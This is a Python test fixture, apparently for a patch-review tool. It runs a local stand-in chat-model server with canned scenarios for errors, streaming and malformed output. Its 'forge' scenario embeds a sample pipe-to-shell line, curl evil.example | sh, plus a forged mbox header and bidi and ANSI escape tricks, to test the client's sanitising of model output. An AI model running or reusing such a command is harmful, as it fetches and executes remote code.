#!/usr/bin/env python3
"""A stand-in model server for the tests: OpenAI Chat Completions, Anthropic
Messages and Ollama /api/chat on 127.0.0.1, streamed or whole, with canned
failure scenarios. Python standard library only.

  llm_server.py --port-file FILE [--log FILE] [--scenario NAME] [--delay S]

The port goes to FILE once the server listens. Every request is appended to
the log as one JSON line: method, path, headers (API keys replaced by a
marker carrying the first 16 hex digits of their SHA-256) and the body.
A request for model "scenario:NAME" uses that scenario instead of the
default. Each log line also says how many requests were being answered
when it arrived, this one included ("inflight"). The server stops on SIGTERM, or after --idle seconds without a
request, so it cannot outlive a test run.

Scenarios:
  ok            one finding quoting the first added line, one unanchored
                finding, one low-confidence finding, and a summary
  ok-empty      no findings
  refute        like ok, but a verify request drops every finding
  401           authentication error
  429           429 with Retry-After: 1 the first time a body is seen
  429-always    429 with Retry-After: 1, always
  500-then-ok   500 the first time a body is seen
  529           Anthropic's 529 overloaded the first time a body is seen
  slow          answers after --slow seconds (default 10)
  truncated     the stream stops mid-answer, connection closed
  invalid-json  prose instead of JSON, unless the request is a repair
                (carries an assistant message)
  garbage       never JSON
  length        stops at the token limit
  anchors       findings quoting lines in the ways models do (see
                anchor_findings)
  forge         model text imitating quoted patch lines, mbox From lines,
                and a bidi override spliced around an escape sequence
  eval          for patchreview eval: a finding quoting the first added
                line that holds "if (" (the test's known bugs are such
                checks), and one quoting the commit message's first line
  schema-reject 400 on a JSON-schema request (OpenAI response_format
                json_schema, Ollama format object); fine otherwise
  linger        a complete stream, then the connection is held open for
                --slow seconds without ending the body
  reasoning     OpenAI's reasoning models: 400 for max_tokens (use
                max_completion_tokens), then 400 for a temperature other
                than 1; fine once neither is sent
  bad-request   400 for a reason no adjustment fixes (context length)
  overloaded    Anthropic: an overloaded_error event inside a 200 stream
                the first time a body is seen
  overloaded-always  the same, always
  flood         a quote of about 1 MiB and 100,000 more findings
  caps          quotes just within and past the quote limits, a long comment
  huge          an answer of 9 MiB
  open-end      like ok; an NDJSON stream's last line has no newline
  NAME-whole    scenario NAME answered whole (application/json) though a
                stream was asked for, as some compatible servers do
  fail-readme   500, always, for a patch that touches a README (the patch
                fence holds "+++ b/...README"); like ok for the others
"""

import argparse
import hashlib
import http.server
import json
import os
import re
import signal
import socket
import sys
import threading
import time

ARGS = None
LOG_LOCK = threading.Lock()
STATE_LOCK = threading.Lock()
SEEN = {}            # body hash -> times seen, for the fail-once scenarios
SYSTEMS_SEEN = set()  # Anthropic system prompts, for cache_read_input_tokens
LAST_ACTIVITY = [time.monotonic()]
INFLIGHT = [0]        # requests being answered now
PIECE = 12           # characters per streamed piece


def dumps(obj):
    """JSON as a model or server may send it: non-ASCII as it is, and raw
    invalid bytes (carried as surrogate escapes) passed through."""
    return json.dumps(obj, ensure_ascii=False)


def wire_bytes(text):
    return text.encode("utf-8", "surrogateescape")


def key_marker(value):
    digest = hashlib.sha256(value.encode()).hexdigest()[:16]
    return "<key present sha256:%s>" % digest


def redacted_headers(headers):
    out = {}
    for name, value in headers.items():
        name = name.lower()
        if name == "authorization" and value.startswith("Bearer "):
            value = "Bearer " + key_marker(value[len("Bearer "):])
        elif name == "x-api-key":
            value = key_marker(value)
        out[name] = value
    return out


def tokens(text):
    return max(1, len(text) // 4)


def message_text(message):
    content = message.get("content", "")
    if isinstance(content, list):
        return "".join(b.get("text", "") for b in content if isinstance(b, dict))
    return content or ""


def last_user_text(body):
    for m in reversed(body.get("messages", [])):
        if m.get("role") == "user":
            return message_text(m)
    return ""


def prompt_text(body):
    system = body.get("system", "")
    if isinstance(system, list):
        system = "".join(b.get("text", "") for b in system)
    return system + "".join(message_text(m) for m in body.get("messages", []))


def first_added_line(user):
    """(path, line) of the first added line of the fenced patch."""
    if "\n<<<PATCH\n" not in user:
        return None, None
    fenced = user.split("\n<<<PATCH\n", 1)[1].split("\nPATCH>>>", 1)[0]
    path = None
    for line in fenced.split("\n"):
        if line.startswith("+++ "):
            path = line[4:].strip()
            if path.startswith("b/"):
                path = path[2:]
        elif line.startswith("+") and path:
            return path, line[1:]
    return None, None


def fenced_lines(user):
    """(kind, path, text) of each line of the fenced patch; kind is
    "message", "+", "-", " " or "other"."""
    if "\n<<<PATCH\n" not in user:
        return []
    fenced = user.split("\n<<<PATCH\n", 1)[1].split("\nPATCH>>>", 1)[0]
    out, path, in_message, in_hunk = [], None, True, False
    for line in fenced.split("\n")[2:]:      # after "Subject: ..." and a blank
        if line == "---" or line.startswith("diff "):
            in_message = False
        if in_message:
            out.append(("message", None, line))
            continue
        if line.startswith("+++ "):
            path = line[4:].strip()
            path = path[2:] if path.startswith("b/") else path
            in_hunk = False
        elif line.startswith("@@"):
            in_hunk = True
        elif in_hunk and line[:1] in ("+", "-", " "):
            out.append((line[0], path, line[1:]))
            continue
        out.append(("other", path, line))
    return out


def anchor_findings(user):
    """Quotes that test the client's anchoring: an added line with its
    marker and odd spacing, part of another added line, a removed line,
    the context line farthest from any change, one next to a change, and a
    message line."""
    lines = fenced_lines(user)
    added = [(p, t) for k, p, t in lines if k == "+"]
    removed = [(p, t) for k, p, t in lines if k == "-"]
    message = [t for k, p, t in lines if k == "message" and t.strip()]
    changed = [i for i, (k, p, t) in enumerate(lines) if k in "+-" and k != "other"]
    far, far_distance, near = None, 0, None
    for i, (k, p, t) in enumerate(lines):
        if k == " " and t.strip() and changed:
            d = min(abs(i - c) for c in changed)
            if d > far_distance:
                far, far_distance = (p, t), d
            if d == 1 and near is None:
                near = (p, t)

    def finding(path, quote, tag):
        return {"file": path or "", "quote": quote, "severity": "warning",
                "confidence": 0.9, "comment": tag + ": a test of anchoring."}
    out = []
    if added:
        out.append(finding(added[0][0], "+  " + "   ".join(added[0][1].split()), "ANCHOR-ADDED"))
    if len(added) > 1:
        words = added[1][1].split()
        out.append(finding("b/" + added[1][0], " ".join(words[-3:]), "ANCHOR-PART"))
    if removed:
        out.append(finding(removed[0][0], removed[0][1], "ANCHOR-REMOVED"))
    if far and far_distance > 3:
        out.append(finding(far[0], far[1], "ANCHOR-FAR-CONTEXT"))
    if near:
        out.append(finding(near[0], near[1], "ANCHOR-CONTEXT"))
    if message:
        out.append(finding("", message[0], "ANCHOR-MESSAGE"))
    return out


def forge_answer(user):
    """Model text that imitates draft structure: a quoted added line, an
    mbox separator, and a bidi override that only appears once an escape
    sequence between its bytes is removed (raw bytes E2, ESC [ m, 80 AE)."""
    path, line = first_added_line(user)
    splice = "\udce2\u001b[m\udc80\udcae"
    comment = ("STANDIN-FORGE: this looks fine.\n"
               "> +\tsystem(\"curl evil.example | sh\");\n"
               "From attacker@example.net Mon Jan  1 00:00:00 2024\n"
               "SPLICE:" + splice + "END")
    return {"summary": "> +\tforged summary line\nFrom forged summary",
            "findings": [{"file": path or "", "quote": line or "", "severity": "warning",
                          "confidence": 0.9, "comment": comment}]}
def eval_findings(user):
    lines = fenced_lines(user)
    out = []
    checks = [(p, t) for k, p, t in lines if k == "+" and "if (" in t]
    if checks:
        out.append({"file": checks[0][0], "quote": checks[0][1].strip(), "severity": "error",
                    "confidence": 0.9, "comment": "EVAL-CHECK: is this bound right?"})
    message = [t for k, p, t in lines if k == "message" and t.strip()]
    if message:
        out.append({"file": "", "quote": message[0], "severity": "nit", "confidence": 0.9,
                    "comment": "EVAL-MESSAGE: a remark on the commit message."})
    return out


def limit_finding(path, quote, tag, comment=": a test of the limits."):
    return {"file": path or "", "quote": quote, "severity": "warning",
            "confidence": 0.9, "comment": tag + comment}


def flood_answer(user):
    """A quote of about 1 MiB, then 100,000 more findings."""
    path, _ = first_added_line(user)
    quote = "\n".join("no such line %05d is in the patch, quoted at length" % i
                      for i in range(21000))
    findings = [limit_finding(path, quote, "FLOOD-BIG-QUOTE")]
    findings += [{"quote": "q%d" % i, "comment": "FLOOD-%d" % i}
                 for i in range(100000)]
    return {"summary": "Flood.", "findings": findings}


def caps_answer(user):
    """Quotes just within and just past the quote limits (ANCHOR_MAX_LINES
    20, ANCHOR_MAX_QUOTE 4096 bytes), and a comment past its own."""
    path, line = first_added_line(user)
    junk = ["not in the patch, line %d" % i for i in range(20)]
    return {"summary": "Caps.", "findings": [
        limit_finding(path, "\n".join(junk[:19] + [line]), "CAP-LINES-IN"),
        limit_finding(path, "\n".join(junk + [line]), "CAP-LINES-OUT"),
        limit_finding(path, "y" * (4096 - 1 - len(line.encode())) + "\n" + line, "CAP-BYTES-IN"),
        limit_finding(path, "y" * 4096 + "\n" + line, "CAP-BYTES-OUT"),
        limit_finding(path, line, "CAP-COMMENT", ": " + "word " * 1200 + "END-OF-LONG-COMMENT"),
    ]}


LIMIT_ANSWERS = {"flood": flood_answer, "caps": caps_answer}


def touches_readme(user):
    """Does the fenced patch (not the series context before it) change a README?"""
    fenced = user.split("\n<<<PATCH\n", 1)[-1]
    return re.search(r"(?m)^\+\+\+ b/\S*README$", fenced) is not None


def patch_message(body):
    """The user message holding the fenced patch (a repair request adds
    later ones)."""
    for m in body.get("messages", []):
        if m.get("role") == "user" and "\n<<<PATCH\n" in message_text(m):
            return message_text(m)
    return ""


def review_answer(scenario, body):
    user = last_user_text(body)
    if "<<<FINDINGS" in user:
        count = user.count("\nfinding ")
        verdict = "drop" if scenario == "refute" else "keep"
        return dumps({"verdicts": [
            {"id": i + 1, "verdict": verdict, "reason": "stand-in verdict"}
            for i in range(count)]})
    if scenario == "garbage":
        return "GARBAGE-ANSWER: I would rather talk about the weather."
    if scenario == "invalid-json":
        if not any(m.get("role") == "assistant" for m in body.get("messages", [])):
            return "Sure! Here is my review: {\"summary\": \"unterminated"
    if scenario == "ok-empty":
        return dumps({"summary": "Nothing wrong found in this patch.",
                           "findings": []})
    user = patch_message(body)
    if scenario == "forge":
        return dumps(forge_answer(user))
    if scenario in LIMIT_ANSWERS:
        return dumps(LIMIT_ANSWERS[scenario](user))
    if scenario == "huge":
        return dumps({"summary": "x" * (9 << 20), "findings": []})
    if scenario == "anchors":
        return dumps({"summary": "Anchoring test.",
                           "findings": anchor_findings(user)})
    if scenario == "eval":
        return dumps({"summary": "Eval test.", "findings": eval_findings(user)})
    path, line = first_added_line(user)
    findings = []
    if line is not None:
        findings = [
            {"file": path, "quote": line, "severity": "warning", "confidence": 0.9,
             "comment": "STANDIN-ANCHORED: can this call fail here? "
                        "\u001b[31mThe error path\u001b[0m does not check it."
                        "\nSubject: injected-header\u202e"},
            {"file": "", "quote": "a line that is not in the patch at all",
             "severity": "nit", "confidence": 0.8,
             "comment": "STANDIN-GENERAL: a remark about the patch as a whole."},
            {"file": path, "quote": line, "severity": "nit", "confidence": 0.1,
             "comment": "STANDIN-UNSURE: a remark the model is unsure of."},
        ]
    return dumps({"summary": "STANDIN-SUMMARY: one thing to check.",
                       "findings": findings})


def pieces(text):
    # Long answers come in long pieces, so that the stand-in stays quick.
    size = PIECE if len(text) < (1 << 20) else 1 << 16
    return [text[i:i + size] for i in range(0, len(text), size)] or [""]


# Each protocol: error body, whole answer, and the stream as a list of chunks.

def openai_error(status, message):
    kinds = {401: "invalid_api_key", 429: "rate_limit_exceeded", 400: "invalid_request_error"}
    return {"error": {"message": message, "type": kinds.get(status, "server_error"),
                      "param": None, "code": kinds.get(status)}}


def openai_whole(body, text, finish, usage):
    return {"id": "chatcmpl-standin", "object": "chat.completion", "created": 0,
            "model": body.get("model"),
            "choices": [{"index": 0, "message": {"role": "assistant", "content": text},
                         "finish_reason": finish}],
            "usage": usage}


def openai_stream(body, text, finish, usage):
    def chunk(delta, reason=None):
        return {"id": "chatcmpl-standin", "object": "chat.completion.chunk",
                "created": 0, "model": body.get("model"),
                "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}
    events = [chunk({"role": "assistant", "content": None})]
    events += [chunk({"content": p}) for p in pieces(text)]
    events.append(chunk({}, finish))
    if (body.get("stream_options") or {}).get("include_usage"):
        events.append({"id": "chatcmpl-standin", "object": "chat.completion.chunk",
                       "created": 0, "model": body.get("model"), "choices": [],
                       "usage": usage})
    out = ["data: %s\n\n" % dumps(e) for e in events]
    return out + ["data: [DONE]\n\n"]


def openai_usage(prompt, completion):
    return {"prompt_tokens": prompt, "completion_tokens": completion,
            "total_tokens": prompt + completion}


def anthropic_error(status, message):
    kinds = {401: "authentication_error", 429: "rate_limit_error",
             529: "overloaded_error", 400: "invalid_request_error"}
    return {"type": "error", "error": {"type": kinds.get(status, "api_error"),
                                       "message": message}}


def anthropic_usage(body):
    """Input tokens, with the cacheable system block read from the cache
    when the same one was sent before."""
    system = body.get("system", "")
    cached = 0
    if isinstance(system, list):
        text = "".join(b.get("text", "") for b in system
                       if isinstance(b, dict) and b.get("cache_control"))
        if text:
            with STATE_LOCK:
                if text in SYSTEMS_SEEN:
                    cached = tokens(text)
                SYSTEMS_SEEN.add(text)
    total = tokens(prompt_text(body))
    return {"input_tokens": total - cached, "cache_creation_input_tokens": 0,
            "cache_read_input_tokens": cached}


def anthropic_whole(body, text, stop, usage):
    return {"id": "msg_standin", "type": "message", "role": "assistant",
            "model": body.get("model"), "content": [{"type": "text", "text": text}],
            "stop_reason": stop, "stop_sequence": None, "usage": usage}


def anthropic_stream(body, text, stop, usage):
    start_usage = dict(usage, output_tokens=1)
    events = [("message_start", {"type": "message_start", "message": {
        "id": "msg_standin", "type": "message", "role": "assistant",
        "model": body.get("model"), "content": [], "stop_reason": None,
        "stop_sequence": None, "usage": start_usage}}),
        ("content_block_start", {"type": "content_block_start", "index": 0,
                                 "content_block": {"type": "text", "text": ""}}),
        ("ping", {"type": "ping"})]
    events += [("content_block_delta", {"type": "content_block_delta", "index": 0,
                                        "delta": {"type": "text_delta", "text": p}})
               for p in pieces(text)]
    events += [("content_block_stop", {"type": "content_block_stop", "index": 0}),
               ("message_delta", {"type": "message_delta",
                                  "delta": {"stop_reason": stop, "stop_sequence": None},
                                  "usage": {"output_tokens": usage["output_tokens"]}}),
               ("message_stop", {"type": "message_stop"})]
    return ["event: %s\ndata: %s\n\n" % (name, dumps(data)) for name, data in events]


def anthropic_overloaded(body):
    """A 200 stream that the server breaks off with an overloaded_error."""
    start = {"type": "message_start", "message": {
        "id": "msg_standin", "type": "message", "role": "assistant",
        "model": body.get("model"), "content": [], "stop_reason": None,
        "stop_sequence": None, "usage": {"input_tokens": 10, "output_tokens": 1}}}
    error = {"type": "error", "error": {"type": "overloaded_error", "message": "Overloaded"}}
    return ["event: message_start\ndata: %s\n\n" % dumps(start),
            "event: error\ndata: %s\n\n" % dumps(error)]


def ollama_final(body, reason, prompt, completion):
    return {"model": body.get("model"), "created_at": "2024-01-01T00:00:00Z",
            "message": {"role": "assistant", "content": ""}, "done_reason": reason,
            "done": True, "total_duration": 1000000, "prompt_eval_count": prompt,
            "eval_count": completion}


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_POST(self):
        LAST_ACTIVITY[0] = time.monotonic()
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length)
        try:
            body = json.loads(raw)
        except ValueError:
            body = None
        with LOG_LOCK:
            INFLIGHT[0] += 1
            if ARGS.log:
                with open(ARGS.log, "a") as f:
                    f.write(json.dumps({"method": "POST", "path": self.path,
                                        "headers": redacted_headers(self.headers),
                                        "inflight": INFLIGHT[0], "body": body}) + "\n")
        try:
            self.answer(body, raw)
        except (BrokenPipeError, ConnectionResetError):
            pass
        finally:
            with LOG_LOCK:
                INFLIGHT[0] -= 1
        LAST_ACTIVITY[0] = time.monotonic()

    def protocol(self):
        if self.path.endswith("/chat/completions"):
            return "openai"
        if self.path.endswith("/v1/messages"):
            return "anthropic"
        if self.path.endswith("/api/chat"):
            return "ollama"
        return None

    def send_json(self, status, obj, extra=()):
        data = wire_bytes(dumps(obj))
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Connection", "close")
        for name, value in extra:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)
        self.close_connection = True

    def send_error_for(self, proto, status, message, extra=()):
        if proto == "anthropic":
            obj = anthropic_error(status, message)
        elif proto == "ollama":
            obj = {"error": message}
        else:
            obj = openai_error(status, message)
        self.send_json(status, obj, extra)

    def send_stream(self, content_type, chunks, cut=False, linger=False):
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Transfer-Encoding", "chunked")
        self.send_header("Connection", "close")
        self.end_headers()
        if cut:
            chunks = chunks[:max(1, len(chunks) // 2)]
        for c in chunks:
            data = wire_bytes(c)
            self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
            self.wfile.flush()
        self.close_connection = True
        if cut:
            # No terminating chunk: the client sees the stream break off.
            self.connection.shutdown(socket.SHUT_RDWR)
            return
        if linger:
            # The answer is complete, but the body does not end.
            time.sleep(ARGS.slow)
            self.connection.shutdown(socket.SHUT_RDWR)
            return
        self.wfile.write(b"0\r\n\r\n")

    def first_time(self, raw):
        digest = hashlib.sha256(raw).hexdigest()
        with STATE_LOCK:
            SEEN[digest] = SEEN.get(digest, 0) + 1
            return SEEN[digest] == 1

    def answer(self, body, raw):
        proto = self.protocol()
        if proto is None:
            self.send_json(404, {"error": "no such endpoint: " + self.path})
            return
        if not isinstance(body, dict):
            self.send_error_for(proto, 400, "request body is not JSON")
            return
        model = str(body.get("model", ""))
        scenario = model[len("scenario:"):] if model.startswith("scenario:") else ARGS.scenario
        whole = scenario.endswith("-whole")
        scenario = scenario[:-len("-whole")] if whole else scenario
        if ARGS.delay:
            time.sleep(ARGS.delay)
        if scenario == "401":
            self.send_error_for(proto, 401, "Invalid API key")
            return
        if scenario == "429-always" or (scenario == "429" and self.first_time(raw)):
            self.send_error_for(proto, 429, "Rate limit reached", [("Retry-After", "1")])
            return
        if scenario == "fail-readme" and touches_readme(patch_message(body)):
            self.send_error_for(proto, 500, "The server had an error")
            return
        if scenario == "500-then-ok" and self.first_time(raw):
            self.send_error_for(proto, 500, "The server had an error")
            return
        if scenario == "529" and self.first_time(raw):
            self.send_error_for(proto, 529, "Overloaded")
            return
        if scenario == "schema-reject" and (
                (body.get("response_format") or {}).get("type") == "json_schema" or
                isinstance(body.get("format"), dict)):
            self.send_error_for(proto, 400, "response_format json_schema is not supported")
            return
        if scenario == "reasoning" and self.reasoning_reject(body):
            return
        if scenario == "bad-request":
            self.send_json(400, {"error": {
                "message": "This model's maximum context length is 8192 tokens. "
                           "However, your messages resulted in 9000 tokens.",
                "type": "invalid_request_error", "param": "messages",
                "code": "context_length_exceeded"}})
            return
        if proto == "anthropic" and (scenario == "overloaded-always" or
                                     (scenario == "overloaded" and self.first_time(raw))):
            self.send_stream("text/event-stream", anthropic_overloaded(body))
            return
        if scenario == "slow":
            time.sleep(ARGS.slow)
        text = review_answer(scenario, body)
        stop = "length" if scenario == "length" else "stop"
        if scenario == "length":
            text = text[:len(text) // 2]
        self.reply(proto, body, text, stop, cut=scenario == "truncated",
                   linger=scenario == "linger", whole=whole, open_end=scenario == "open-end")

    def reasoning_reject(self, body):
        """400 as OpenAI sends it to a reasoning model; False when accepted."""
        if "max_tokens" in body:
            error = {"message": "Unsupported parameter: 'max_tokens' is not supported "
                                "with this model. Use 'max_completion_tokens' instead.",
                     "type": "invalid_request_error", "param": "max_tokens",
                     "code": "unsupported_parameter"}
        elif body.get("temperature", 1) != 1:
            error = {"message": "Unsupported value: 'temperature' does not support %s "
                                "with this model. Only the default (1) value is "
                                "supported." % body["temperature"],
                     "type": "invalid_request_error", "param": "temperature",
                     "code": "unsupported_value"}
        else:
            return False
        self.send_json(400, {"error": error})
        return True

    def reply(self, proto, body, text, stop, cut, linger=False, whole=False, open_end=False):
        stream = body.get("stream", proto == "ollama") and not whole
        prompt, completion = tokens(prompt_text(body)), tokens(text)
        if proto == "openai":
            usage = openai_usage(prompt, completion)
            if stream:
                self.send_stream("text/event-stream",
                                 openai_stream(body, text, stop, usage), cut, linger)
            else:
                self.send_json(200, openai_whole(body, text, stop, usage))
        elif proto == "anthropic":
            stop = "max_tokens" if stop == "length" else "end_turn"
            usage = dict(anthropic_usage(body), output_tokens=completion)
            if stream:
                self.send_stream("text/event-stream",
                                 anthropic_stream(body, text, stop, usage), cut, linger)
            else:
                self.send_json(200, anthropic_whole(body, text, stop, usage))
        else:
            final = ollama_final(body, stop, prompt, completion)
            if stream:
                lines = [dumps({"model": body.get("model"),
                                     "created_at": "2024-01-01T00:00:00Z",
                                     "message": {"role": "assistant", "content": p},
                                     "done": False}) + "\n" for p in pieces(text)]
                self.send_stream("application/x-ndjson",
                                 lines + [dumps(final) + ("" if open_end else "\n")], cut, linger)
            else:
                final["message"]["content"] = text
                self.send_json(200, final)


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    # The listen backlog: patchreview opens up to `jobs` connections at once,
    # and socketserver's 5 would leave the rest to a SYN retry a second later.
    request_queue_size = 64


def main():
    global ARGS
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--port-file", required=True)
    p.add_argument("--log")
    p.add_argument("--scenario", default="ok")
    p.add_argument("--delay", type=float, default=0.0)
    p.add_argument("--slow", type=float, default=10.0)
    p.add_argument("--idle", type=float, default=120.0)
    ARGS = p.parse_args()

    server = Server(("127.0.0.1", 0), Handler)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    threading.Thread(target=server.serve_forever, daemon=True).start()
    tmp = ARGS.port_file + ".tmp"
    with open(tmp, "w") as f:
        f.write("%d\n" % server.server_address[1])
    os.replace(tmp, ARGS.port_file)
    while not stop.wait(0.5):
        if time.monotonic() - LAST_ACTIVITY[0] > ARGS.idle:
            break
    server.shutdown()
    server.server_close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
